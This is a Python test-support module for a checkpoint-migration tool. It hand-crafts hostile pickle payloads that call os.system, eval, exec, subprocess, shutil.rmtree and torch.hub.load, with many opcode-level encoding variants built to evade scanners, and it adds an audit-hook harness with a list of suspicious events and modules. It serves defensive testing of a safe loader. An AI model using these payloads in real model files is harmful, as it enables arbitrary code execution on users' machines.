"""Hostile pickles crafted by hand from raw opcodes, for the hostile-file, scan and fuzz tests.

Nothing here pickles a dangerous object or unpickles anything: every payload is bytes written
opcode by opcode (``pickletools`` only ever *reads* them, statically). Benign containers (a real
``torch.save`` zip or legacy file) get a payload by byte surgery: a harmless marker call that
``torch.save`` wrote is rewritten into the dangerous call.
"""

from __future__ import annotations

import enum
import io
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Sequence

MAGIC_BYTES = (0x1950A86A20F9469CFC6C).to_bytes(10, "little")
MARKER = "MARKER-c0ffee"


class Mode(enum.Enum):
    """A benign enum a training library might pickle (its value is rebuilt by *calling* the class)."""

    TRAIN = 1
    EVAL = 2


def harmless(*args: object) -> tuple:
    """The marker callable that byte surgery rewrites into a dangerous one."""
    return args


class Marker:
    """Pickles as ``harmless(MARKER)``: a call site for :func:`inject` to rewrite."""

    def __reduce__(self) -> tuple:
        return harmless, (MARKER,)


# ---------------------------------------------------------------- opcode builders


def proto(protocol: int) -> bytes:
    """The PROTO header (protocols 0 and 1 have none)."""
    return b"\x80" + bytes([protocol]) if protocol >= 2 else b""


def text(value: str, protocol: int) -> bytes:
    """A string pushed the way the protocol would: STRING (0), BINUNICODE (1-3), SHORT_BINUNICODE (4-5)."""
    raw = value.encode("utf-8")
    if protocol == 0:
        return b"S" + repr(value).encode("ascii") + b"\n"
    if protocol >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def binbytes(value: bytes) -> bytes:
    """A bytes object (BINBYTES, protocol 3+)."""
    return b"B" + struct.pack("<I", len(value)) + value


def value(item: object, protocol: int) -> bytes:
    """Opcodes pushing a plain argument: str, bytes, bool, None, int or a list of those."""
    if isinstance(item, bool):
        return (b"\x88" if item else b"\x89") if protocol >= 2 else (b"I01\n" if item else b"I00\n")
    if item is None:
        return b"N"
    if isinstance(item, int):
        return b"I" + str(item).encode() + b"\n"
    if isinstance(item, bytes):
        return binbytes(item)
    if isinstance(item, str):
        return text(item, protocol)
    if isinstance(item, list):
        return b"(" + b"".join(value(v, protocol) for v in item) + b"l"
    if isinstance(item, dict):
        return b"(" + b"".join(value(k, protocol) + value(v, protocol) for k, v in item.items()) + b"d"
    raise TypeError(type(item))


def global_op(module: str, name: str) -> bytes:
    """GLOBAL: module and name as two text lines."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL with both names pushed just before it (protocol 4+)."""
    return text(module, 4) + text(name, 4) + b"\x93"


def args_tuple(args: Sequence[object], protocol: int) -> bytes:
    """MARK args TUPLE."""
    return b"(" + b"".join(value(a, protocol) for a in args) + b"t"


def call(module: str, name: str, args: Sequence[object] = (), protocol: int = 2, how: str = "GLOBAL") -> bytes:
    """Opcodes that push ``module.name(*args)``, spelled ``how`` (GLOBAL, STACK_GLOBAL, MEMO, INST, OBJ)."""
    if how == "INST":
        return b"(" + b"".join(value(a, protocol) for a in args) + b"i" + module.encode() + b"\n" + name.encode() + b"\n"
    if how == "OBJ":
        return b"(" + global_op(module, name) + b"".join(value(a, protocol) for a in args) + b"o"
    if how == "STACK_GLOBAL":
        func = stack_global(module, name)
    elif how == "MEMO":
        func = b"h\x00h\x01\x93"
    else:
        func = global_op(module, name)
    return func + args_tuple(args, protocol) + b"R"


def pickle_of(body: bytes, protocol: int = 2, how: str = "GLOBAL", names: tuple[str, str] = ("", "")) -> bytes:
    """A whole pickle: header, (for MEMO) the names stored in the memo first, the body, STOP."""
    rest = body + b"."
    if how == "MEMO":
        rest = text(names[0], protocol) + b"\x94" + b"0" + text(names[1], protocol) + b"\x94" + b"0" + rest
    if protocol >= 4:
        rest = b"\x95" + struct.pack("<Q", len(rest)) + rest
    return proto(protocol) + rest


def call_pickle(module: str, name: str, args: Sequence[object] = (), protocol: int = 2, how: str = "GLOBAL") -> bytes:
    """A pickle whose top object is ``module.name(*args)``."""
    return pickle_of(call(module, name, args, protocol, how), protocol, how, (module, name))


def chain_pickle(steps: bytes, protocol: int = 2) -> bytes:
    """A pickle around hand-written body opcodes."""
    return proto(protocol) + steps + b"."


def legacy_file(object_pickle: bytes, storage_keys: bytes = b"\x80\x02].", storages: bytes = b"") -> bytes:
    """torch's pre-1.6 layout: magic, protocol version, sys_info, the object pickle, the key list, storages."""
    magic = b"\x80\x02\x8a\x0a" + MAGIC_BYTES + b"."
    version = b"\x80\x02M\xe9\x03."
    sys_info = b"\x80\x02}q\x00(X\x0d\x00\x00\x00little_endian\x88u."
    return magic + version + sys_info + object_pickle + storage_keys + storages


def load_from_bytes_pickle(payload: bytes) -> bytes:
    """``torch.storage._load_from_bytes(payload)``: the nested-pickle route of plain pickles."""
    return b"\x80\x03" + global_op("torch.storage", "_load_from_bytes") + b"(" + binbytes(payload) + b"tR."


def zip_with(entries: dict[str, bytes]) -> bytes:
    """A zip archive (entries stored uncompressed) holding ``entries`` in order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return buffer.getvalue()


def torch_zip(data_pkl: bytes, storages: dict[str, bytes] | None = None, top: str = "archive") -> bytes:
    """A torch zip archive around ``data_pkl`` with raw storage entries."""
    entries = {f"{top}/data.pkl": data_pkl, f"{top}/byteorder": b"little"}
    for key, raw in (storages or {}).items():
        entries[f"{top}/data/{key}"] = raw
    entries[f"{top}/version"] = b"3\n"
    return zip_with(entries)


def tensor_pickle(size: Sequence[int], stride: Sequence[int], offset: int = 0, numel: int = 4, key: str = "0") -> bytes:
    """A protocol-2 state_dict ``{"w": tensor}`` of float32 in storage ``key`` declaring ``numel`` elements."""
    storage = b"(" + text("storage", 2) + global_op("torch", "FloatStorage") + text(key, 2) + text("cpu", 2) + value(numel, 2) + b"tQ"
    size_t = b"(" + b"".join(value(s, 2) for s in size) + b"t"
    stride_t = b"(" + b"".join(value(s, 2) for s in stride) + b"t"
    tensor = (global_op("torch._utils", "_rebuild_tensor_v2") + b"(" + storage + value(offset, 2) + size_t + stride_t
              + b"\x89" + global_op("collections", "OrderedDict") + b")RtR")
    return b"\x80\x02}(" + text("w", 2) + tensor + b"u."


# ---------------------------------------------------------------- byte surgery on real torch.save output


def inject(data: bytes, module: str, name: str, argument: str) -> bytes:
    """Rewrite the marker call ``payloads.harmless(MARKER)`` in a pickle into ``module.name(argument)``."""
    marker_global = global_op(harmless.__module__, "harmless")
    marker_text = text(MARKER, 2)
    if marker_global not in data or marker_text not in data:
        raise ValueError("no marker call in this pickle")
    return data.replace(marker_global, global_op(module, name), 1).replace(marker_text, text(argument, 2), 1)


def inject_into_zip(archive: bytes, module: str, name: str, argument: str) -> bytes:
    """A torch zip archive whose ``data.pkl`` has its marker call rewritten."""
    source = zipfile.ZipFile(io.BytesIO(archive))
    entries = {}
    for info in source.infolist():
        raw = source.read(info)
        entries[info.filename] = inject(raw, module, name, argument) if info.filename.endswith("/data.pkl") else raw
    return zip_with(entries)


def replace_data_pkl(archive: bytes, data_pkl: bytes) -> bytes:
    """A torch zip archive whose ``data.pkl`` is replaced by ``data_pkl``."""
    source = zipfile.ZipFile(io.BytesIO(archive))
    return zip_with({i.filename: data_pkl if i.filename.endswith("/data.pkl") else source.read(i) for i in source.infolist()})


# ---------------------------------------------------------------- the catalogue


@dataclass(frozen=True)
class Payload:
    """One hostile pickle and the global it must be refused for."""

    id: str
    data: bytes
    refused: str


def direct_calls(canary: Path, victim: Path, victim_dir: Path, script: Path) -> list[Payload]:
    """A direct call of every gadget the issue lists; each would touch ``canary`` or delete ``victim`` if it ran."""
    touch = f"touch {canary}"
    code = f"open({str(canary)!r}, 'w').close()"
    os_pickle = call_pickle("os", "system", [touch], 0)
    payloads = [
        Payload("os.system", call_pickle("os", "system", [touch]), "os.system"),
        Payload("posix.system", call_pickle("posix", "system", [touch]), "posix.system"),
        Payload("nt.system", call_pickle("nt", "system", [touch]), "nt.system"),
        Payload("builtins.eval", call_pickle("builtins", "eval", [code]), "builtins.eval"),
        Payload("builtins.exec", call_pickle("builtins", "exec", [code]), "builtins.exec"),
        Payload("builtins.open", call_pickle("builtins", "open", [str(canary), "w"]), "builtins.open"),
        Payload("builtins.__import__", call_pickle("builtins", "__import__", ["antigravity"]), "builtins.__import__"),
        Payload("builtins.getattr", chain_pickle(
            global_op("builtins", "getattr") + b"(" + call("builtins", "__import__", ["os"]) + text("system", 2) + b"tR"
            + b"(" + text(touch, 2) + b"tR"), "builtins.getattr"),
        Payload("subprocess.Popen", call_pickle("subprocess", "Popen", [["touch", str(canary)]]), "subprocess.Popen"),
        Payload("subprocess.run", call_pickle("subprocess", "run", [["touch", str(canary)]]), "subprocess.run"),
        Payload("subprocess.call", call_pickle("subprocess", "call", [["touch", str(canary)]]), "subprocess.call"),
        Payload("subprocess.check_output", call_pickle("subprocess", "check_output", [["touch", str(canary)]]), "subprocess.check_output"),
        Payload("subprocess.getoutput", call_pickle("subprocess", "getoutput", [touch]), "subprocess.getoutput"),
        Payload("runpy.run_path", call_pickle("runpy", "run_path", [str(script)]), "runpy.run_path"),
        Payload("runpy._run_code", call_pickle("runpy", "_run_code", [code, {}]), "runpy._run_code"),
        Payload("timeit.timeit", call_pickle("timeit", "timeit", [code]), "timeit.timeit"),
        Payload("cProfile.run", call_pickle("cProfile", "run", [code]), "cProfile.run"),
        Payload("importlib.import_module", call_pickle("importlib", "import_module", ["antigravity"]), "importlib.import_module"),
        Payload("pickle.loads", call_pickle("pickle", "loads", [os_pickle], 3), "pickle.loads"),
        Payload("_pickle.loads", call_pickle("_pickle", "loads", [os_pickle], 3), "_pickle.loads"),
        Payload("marshal.loads", call_pickle("marshal", "loads", [b"\xe3"], 3), "marshal.loads"),
        Payload("functools.partial", chain_pickle(
            global_op("functools", "partial") + b"(" + global_op("os", "system") + text(touch, 2) + b"tR)R"), "functools.partial"),
        Payload("operator.attrgetter", chain_pickle(
            call("operator", "attrgetter", ["system"]) + b"(" + call("builtins", "__import__", ["os"]) + b"tR"
            + b"(" + text(touch, 2) + b"tR"), "operator.attrgetter"),
        Payload("operator.methodcaller", chain_pickle(
            call("operator", "methodcaller", ["system", touch]) + b"(" + call("builtins", "__import__", ["os"]) + b"tR"), "operator.methodcaller"),
        Payload("os.remove", call_pickle("os", "remove", [str(victim)]), "os.remove"),
        Payload("shutil.rmtree", call_pickle("shutil", "rmtree", [str(victim_dir)]), "shutil.rmtree"),
        Payload("numpy.load", call_pickle("numpy", "load", [str(script), None, True]), "numpy.load"),
        Payload("numpy.testing.runstring", call_pickle("numpy.testing._private.utils", "runstring", [code, {}]),
                "numpy.testing._private.utils.runstring"),
        Payload("numpy.lib.npyio.load", call_pickle("numpy.lib.npyio", "load", [str(script), None, True]), "numpy.lib.npyio.load"),
        Payload("torch.load", call_pickle("torch", "load", [str(script)]), "torch.load"),
        Payload("torch.serialization.load", call_pickle("torch.serialization", "load", [str(script)]), "torch.serialization.load"),
        Payload("torch.jit.load", call_pickle("torch.jit", "load", [str(script)]), "torch.jit.load"),
        Payload("torch.hub.load", call_pickle("torch.hub", "load", ["attacker/repo", "model"]), "torch.hub.load"),
        Payload("torch.utils.cpp_extension.load_inline", call_pickle("torch.utils.cpp_extension", "load_inline", ["x", "int x;"]),
                "torch.utils.cpp_extension.load_inline"),
        Payload("torch.fx._forward_from_src", call_pickle("torch.fx.graph_module", "_forward_from_src", [code, {}]),
                "torch.fx.graph_module._forward_from_src"),
        Payload("torch._inductor.PyCodeCache", call_pickle("torch._inductor.codecache", "PyCodeCache.load", [code]),
                "torch._inductor.codecache.PyCodeCache.load"),
        Payload("torch._load_from_bytes-plain", load_from_bytes_pickle(call_pickle("os", "system", [touch])), "os.system"),
        Payload("torch._load_from_bytes-legacy", load_from_bytes_pickle(legacy_file(call_pickle("os", "system", [touch]))), "os.system"),
    ]
    return payloads


def encodings(canary: Path) -> list[Payload]:
    """``os.system``-style calls spelled every way the pickle format allows."""
    touch = f"touch {canary}"
    code = f"open({str(canary)!r}, 'w').close()"
    out = [Payload(f"protocol-{p}", call_pickle("os", "system", [touch], p), "os.system") for p in range(6)]
    out += [
        Payload("protocol-1-dict-root", b"}q\x00(" + text("a", 1) + call("os", "system", [touch], 1) + b"u.", "os.system"),
        Payload("protocol-0-list-root", b"(lp0\n" + call("os", "system", [touch], 0) + b"a.", "os.system"),
        Payload("stack-global", call_pickle("os", "system", [touch], 4, "STACK_GLOBAL"), "os.system"),
        Payload("stack-global-from-memo", call_pickle("os", "system", [touch], 4, "MEMO"), "os.system"),
        Payload("stack-global-protocol-5", call_pickle("subprocess", "getoutput", [touch], 5, "STACK_GLOBAL"), "subprocess.getoutput"),
        Payload("inst", pickle_of(call("os", "system", [touch], 0, "INST"), 0), "os.system"),
        Payload("obj", pickle_of(call("os", "system", [touch], 1, "OBJ"), 1), "os.system"),
        Payload("newobj", chain_pickle(global_op("subprocess", "Popen") + b"(" + value(["touch", str(canary)], 2) + b"t\x81"), "subprocess.Popen"),
        Payload("newobj-ex", chain_pickle(stack_global("subprocess", "Popen") + b"(" + value(["touch", str(canary)], 4) + b"t}\x92", 4),
                "subprocess.Popen"),
        Payload("build-on-class", chain_pickle(global_op("collections", "OrderedDict") + b"}" + text("__reduce__", 2) + text("x", 2) + b"sb"),
                "BUILD on a GlobalRef"),
        Payload("build-on-dict", chain_pickle(b"}}" + text("__setstate__", 2) + text("x", 2) + b"sb"), "BUILD on a dict"),
        Payload("build-setstate-gadget", chain_pickle(global_op("collections", "OrderedDict") + b")R" + b"N}" + text("__setstate__", 2)
                                                      + global_op("os", "system") + b"s\x86b" + text(touch, 2) + b"b"), "os.system"),
        Payload("__builtin__-eval", call_pickle("__builtin__", "eval", [code], 2), "builtins.eval"),
        Payload("__builtin__-protocol-4", call_pickle("__builtin__", "exec", [code], 4, "STACK_GLOBAL"), "builtins.exec"),
        Payload("dotted-globals", chain_pickle(stack_global("os.path", "join.__globals__") + b"0" + stack_global("os", "getcwd") + b"0N", 4),
                "os.path.join.__globals__"),
        Payload("dotted-reexport", call_pickle("torch", "os.system", [touch], 4, "STACK_GLOBAL"), "torch.os.system"),
        Payload("dotted-dunder", call_pickle("collections", "OrderedDict.__init__.__globals__", [], 4, "STACK_GLOBAL"),
                "collections.OrderedDict.__init__.__globals__"),
        Payload("ext1", chain_pickle(b"\x82\x01)R"), "EXT1 code 1"),
        Payload("call-a-non-global", chain_pickle(b"]" + b"(" + text(touch, 2) + b"tR"), "REDUCE of a list"),
    ]
    return out


# ---------------------------------------------------------------- audited CLI runs (in a child process)

SUSPICIOUS_EVENTS = {
    "os.system", "subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty", "os.kill",
    "os.killpg", "os.remove", "os.unlink", "os.rmdir", "shutil.rmtree", "os.rename", "shutil.move", "shutil.copyfile",
    "os.mkdir", "os.symlink", "os.link", "os.truncate", "os.chmod", "os.chown", "socket.connect", "webbrowser.open",
    "ctypes.dlopen", "pickle.find_class", "marshal.loads", "marshal.load", "os.startfile", "pty.spawn",
}
PAYLOAD_MODULES = {
    "antigravity", "runpy", "timeit", "cProfile", "profile", "pickle", "_pickle", "marshal", "subprocess", "shutil",
    "torch", "numpy.testing", "numpy.lib.npyio", "torch.hub", "torch.jit", "torch.fx", "torch._inductor",
    "torch.utils.cpp_extension", "operator", "functools", "importlib", "posix", "nt", "webbrowser",
}


def _inside_import() -> bool:
    """True when the audited operation comes from Python's import machinery (loading a module's .pyc)."""
    import sys

    frame = sys._getframe(2)
    while frame is not None:
        if frame.f_code.co_filename.startswith("<frozen importlib._bootstrap"):
            return True
        frame = frame.f_back
    return False


def _suspicious(event: str, args: tuple, watch: set[str]) -> str | None:
    import os

    if event in ("marshal.loads", "marshal.load", "exec", "compile") and _inside_import():
        return None
    if event in SUSPICIOUS_EVENTS:
        return f"{event} {args!r:.200}"
    if event == "open":
        path, mode, flags = (tuple(args) + (None, None, None))[:3]
        writing = (isinstance(mode, str) and any(c in mode for c in "wax+")) or (
            isinstance(flags, int) and flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND))
        return f"open for writing {path!r}" if writing else None
    if event in ("exec", "compile"):
        name = getattr(args[0], "co_filename", None) if event == "exec" else (args[1] if len(args) > 1 else None)
        name = str(name)
        if name.startswith("<") and not name.startswith("<frozen"):
            return f"{event} of code from {name}"
        return None
    if event == "import":
        module = str(args[0])
        if any(module == w or module.startswith(w + ".") for w in watch):
            return f"import {module}"
    return None


def harness_main(jobs_file: str) -> None:
    """Run ``ckpt-migrate`` jobs in this process under an audit hook; print the results as JSON.

    ``jobs_file`` holds ``{"warmup": [[args]], "jobs": [{"id", "args"}]}``. Warm-up runs first,
    unrecorded, so lazy imports of ckpt-migrate's own code do not count. For each job the result
    gives the exit code, stdout, stderr and every suspicious audit event: a command run, a process
    started, a file opened for writing or removed, code compiled from a string, a payload module imported.
    """
    import contextlib
    import json
    import sys

    import numpy  # noqa: F401 - imported by ckpt-migrate's own numpy handlers; loading its .pyc files is not a payload

    import ckpt_migrate.api  # noqa: F401 - ckpt-migrate's own modules (and the stdlib they import) load before the hook
    import ckpt_migrate.converters.registry as registry
    from ckpt_migrate.cli import main_group

    registry.list_readers()

    spec = json.loads(Path(jobs_file).read_text())
    seen: list[str] = []
    state = {"on": False}
    watch = set(PAYLOAD_MODULES)

    def hook(event: str, args: tuple) -> None:
        if state["on"]:
            found = _suspicious(event, args, watch)
            if found:
                seen.append(found)

    def run(args: list[str]) -> tuple[int, str, str]:
        out, err = io.StringIO(), io.StringIO()
        code = 0
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                main_group.main(args=args, prog_name="ckpt-migrate", standalone_mode=True)
            except SystemExit as stop:
                code = stop.code if isinstance(stop.code, int) else (0 if stop.code is None else 1)
        return code, out.getvalue(), err.getvalue()

    for args in spec.get("warmup", []):
        run(args)
    sys.addaudithook(hook)
    results = []
    for job in spec["jobs"]:
        seen.clear()
        state["on"] = True
        code, out, err = run(job["args"])
        state["on"] = False
        results.append({"id": job["id"], "code": code, "stdout": out, "stderr": err, "events": list(seen)})
    sys.__stdout__.write(json.dumps(results))
    sys.__stdout__.flush()


def run_audited(jobs: list[dict], warmup: list[list[str]], workdir: Path) -> dict[str, dict]:
    """Run jobs through :func:`harness_main` in a child process; results by job id."""
    import json
    import os
    import subprocess
    import sys

    root = Path(__file__).resolve().parent.parent
    spec = workdir / "jobs.json"
    spec.write_text(json.dumps({"warmup": warmup, "jobs": jobs}))
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join([str(root), str(Path(__file__).resolve().parent), env.get("PYTHONPATH", "")])
    proc = subprocess.run([sys.executable, "-c", f"import payloads; payloads.harness_main({str(spec)!r})"],
                          capture_output=True, text=True, cwd=workdir, env=env, timeout=600)
    if proc.returncode != 0:
        raise AssertionError(f"audit harness failed ({proc.returncode}): {proc.stderr[-3000:]}")
    return {r["id"]: r for r in json.loads(proc.stdout)}


# ---------------------------------------------------------------- fuzz seeds


def fuzz_seeds() -> dict[str, list[bytes]]:
    """Seed inputs for the fuzzers, by kind: ``pickle``, ``legacy``, ``zip``, ``data_pkl``, ``safetensors``.

    Benign seeds are ``pickle.dumps``/``torch.save`` output of plain values (dumping runs nothing
    from a file); hostile seeds are the hand-written payloads above.
    """
    import argparse
    import collections
    import datetime
    import decimal
    import fractions
    import pickle

    import numpy as np
    import torch
    from safetensors.torch import save

    torch.manual_seed(0)
    values = [
        None, True, 1, -(1 << 70), 1.5, "text", b"bytes", bytearray(b"ba"), (1, (2, 3)), [1, [2]], {"k": {"n": 1}},
        {1, 2}, frozenset({3}), collections.OrderedDict(a=1), collections.defaultdict(list, a=[1]),
        collections.deque([1, 2], maxlen=3), collections.Counter("aab"), argparse.Namespace(lr=0.1),
        datetime.datetime(2020, 1, 2, 3, 4, 5), datetime.timedelta(days=2), decimal.Decimal("1.5"),
        fractions.Fraction(1, 3), complex(1, 2), range(3), np.arange(6).reshape(2, 3), np.float64(2.5),
        np.dtype(">i4"), {"t": torch.arange(4.0)},
    ]
    pickles = [pickle.dumps(v, protocol=p) for v in values[:-1] for p in range(6)]
    pickles += [pickle.dumps(values[-1], protocol=2)]
    canary = Path("/nonexistent/canary")
    hostile = [p.data for p in direct_calls(canary, canary, canary, canary) + encodings(canary)]
    model = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.BatchNorm1d(2))
    zips, legacies = [], []
    for obj in (model.state_dict(), model, {"model": model.state_dict(), "epoch": 1, "opt": torch.optim.SGD(model.parameters(), lr=0.1).state_dict()}):
        buffer = io.BytesIO()
        torch.save(obj, buffer)
        zips.append(buffer.getvalue())
        buffer = io.BytesIO()
        torch.save(obj, buffer, _use_new_zipfile_serialization=False)
        legacies.append(buffer.getvalue())
    data_pkls = []
    for archive in zips:
        source = zipfile.ZipFile(io.BytesIO(archive))
        data_pkls += [source.read(n) for n in source.namelist() if n.endswith("data.pkl")]
    tensors = save({"a": torch.arange(4, dtype=torch.float32), "b": torch.ones(2, 3, dtype=torch.float16)}, {"k": "v"})
    return {"pickle": pickles + hostile + data_pkls, "legacy": legacies, "zip": zips, "data_pkl": data_pkls,
            "safetensors": [tensors, save({}), save({"x": torch.zeros(0)})]}
